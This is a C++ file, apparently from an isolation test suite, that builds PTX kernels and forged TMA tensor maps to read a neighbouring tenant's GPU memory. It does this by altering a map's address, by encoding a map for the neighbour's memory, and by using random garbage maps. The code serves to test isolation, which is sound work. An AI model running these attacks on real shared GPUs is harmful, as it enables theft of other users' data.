// Tensor maps, which name memory by bits that hardware reads: of its own memory, altered so that
// they name a neighbour's, and of garbage.
#include <array>
#include <cstring>
#include <random>
#include <string>

#include "absl/strings/str_cat.h"
#include "tests/attack/tier/attack.h"

namespace warpline::attack {
namespace {

using Map = std::array<uint64_t, 16>;

// Loads a tile of 16 by 16 words by the map that is a parameter, or by one in memory at `map_at`.
constexpr char kTile[] = R"(
.version 8.0
.target sm_90
.address_size 64
.visible .entry NAME(.param .align 64 .b8 map[128], .param .u64 out, .param .u64 map_at)
{
  .reg .b32 %r<8>;
  .reg .b64 %rd<8>;
  .reg .pred %p<3>;
  .shared .align 128 .b8 buffer[1024];
  .shared .align 8 .b8 barrier[8];
  mov.u32 %r1, buffer;
  mov.u32 %r2, barrier;
  mov.u32 %r3, 0;
  ld.param.u64 %rd4, [out];
  MAP
  mbarrier.init.shared.b64 [%r2], 1;
  fence.mbarrier_init.release.cluster;
  mbarrier.arrive.expect_tx.shared.b64 %rd3, [%r2], 1024;
  COPY
WAIT:
  mbarrier.try_wait.parity.shared.b64 %p1, [%r2], 0;
  @!%p1 bra WAIT;
NEXT:
  ld.shared.u32 %r6, [%r1];
  st.global.u32 [%rd4], %r6;
  add.u32 %r1, %r1, 4;
  add.u64 %rd4, %rd4, 4;
  add.u32 %r3, %r3, 1;
  setp.lt.u32 %p2, %r3, 256;
  @%p2 bra NEXT;
  ret;
}
)";

constexpr const char* kMapPlaces[] = {
    "mov.b64 %rd1, map; cvta.param.u64 %rd2, %rd1;",
    "ld.param.u64 %rd2, [map_at];",
};
constexpr const char* kCopies[] = {
    "cp.async.bulk.tensor.2d.shared::cluster.global.tile.mbarrier::complete_tx::bytes "
    "[%r1], [%rd2, {%r3, %r3}], [%r2];",
    "cp.async.bulk.tensor.2d.global.shared::cta.tile.bulk_group [%rd2, {%r3, %r3}], [%r1];",
    "cp.reduce.async.bulk.tensor.2d.global.shared::cta.add.tile.bulk_group "
    "[%rd2, {%r3, %r3}], [%r1];",
    "cp.async.bulk.prefetch.tensor.2d.L2.global.tile [%rd2, {%r3, %r3}];",
};

std::string Kernel(const char* map, const char* copy) {
  std::string text = kTile;
  text.replace(text.find("NAME"), 4, "tile");
  text.replace(text.find("MAP"), 3, map);
  text.replace(text.find("COPY"), 4, copy);
  return text;
}

// Launches each of the kernels with the map, as a parameter and in memory.
Loot Launch(Home* home, const Map& map, std::string detail) {
  alignas(64) Map parameter = map;
  uint64_t out = home->memory(), at = home->memory() + Home::kBytes / 2;
  DRIVER(cuMemcpyHtoD_v2)(at, map.data(), sizeof(map));
  for (const char* const place : kMapPlaces) {
    for (const char* const copy : kCopies) {
      CUmodule module = nullptr;
      CUfunction kernel = nullptr;
      CUresult result = DRIVER(cuModuleLoadData)(&module, Kernel(place, copy).c_str());
      if (result == CUDA_SUCCESS) result = DRIVER(cuModuleGetFunction)(&kernel, module, "tile");
      void* parameters[] = {&parameter, &out, &at};
      if (result == CUDA_SUCCESS) {
        result = DRIVER(cuLaunchKernel)(kernel, 1, 1, 1, 1, 1, 1, 0, nullptr, parameters, nullptr);
      }
      if (result == CUDA_SUCCESS) result = home->Wait();
      absl::StrAppend(&detail, " ", int{result});
    }
  }
  return Loot{home->ReadMemory(), std::move(detail)};
}

CUresult Encode(CUdeviceptr address, CUtensorMap* map) {
  const cuuint64_t sizes[] = {32, 32}, strides[] = {128};
  const cuuint32_t box[] = {16, 16}, steps[] = {1, 1};
  return DRIVER(cuTensorMapEncodeTiled)(
      map, CU_TENSOR_MAP_DATA_TYPE_UINT32, 2, reinterpret_cast<void*>(address), sizes, strides, box,
      steps, CU_TENSOR_MAP_INTERLEAVE_NONE, CU_TENSOR_MAP_SWIZZLE_NONE,
      CU_TENSOR_MAP_L2_PROMOTION_NONE, CU_TENSOR_MAP_FLOAT_OOB_FILL_NONE);
}

absl::StatusOr<Loot> Altered(Home* home, const TierTarget& target) {
  CUtensorMap own = {};
  const CUresult encoded = Encode(home->memory(), &own);
  Map map;
  static_assert(sizeof(map) == sizeof(own));
  std::memcpy(&map, &own, sizeof(map));
  // The address comes first.
  map[0] = target.neighbour->memory;
  return Launch(home, map, absl::StrCat("its own is encoded with ", int{encoded}, "; kernels:"));
}

absl::StatusOr<Loot> OfTheNeighbour(Home* home, const TierTarget& target) {
  CUtensorMap theirs = {};
  const CUresult encoded = Encode(target.neighbour->memory, &theirs);
  Map map;
  std::memcpy(&map, &theirs, sizeof(map));
  return Launch(home, map, absl::StrCat("encoded with ", int{encoded}, "; kernels:"));
}

absl::StatusOr<Loot> Garbage(Home* home, const TierTarget& target) {
  std::mt19937_64 random(target.neighbour->memory);
  Loot all;
  for (int i = 0; i < 4; ++i) {
    Map map;
    // The map is a part of what is brought home, so no word of it may look like a secret.
    for (uint64_t& word : map) {
      do {
        word = random();
      } while (IsSecret(static_cast<uint32_t>(word)) ||
               IsSecret(static_cast<uint32_t>(word >> 32)));
    }
    if (i % 2 == 0) map[0] = target.neighbour->memory;
    Loot loot = Launch(home, map, "");
    absl::StrAppend(&all.detail, i == 0 ? "kernels:" : ";", loot.detail);
    all.words.insert(all.words.end(), loot.words.begin(), loot.words.end());
  }
  return all;
}

constexpr TierAttack kAttacks[] = {
    {"tensor_map_altered", &Altered},
    {"tensor_map_of_the_neighbour", &OfTheNeighbour},
    {"tensor_map_of_garbage", &Garbage},
};

}  // namespace

absl::Span<const TierAttack> TensorMapAttacks() { return kAttacks; }

}  // namespace warpline::attack
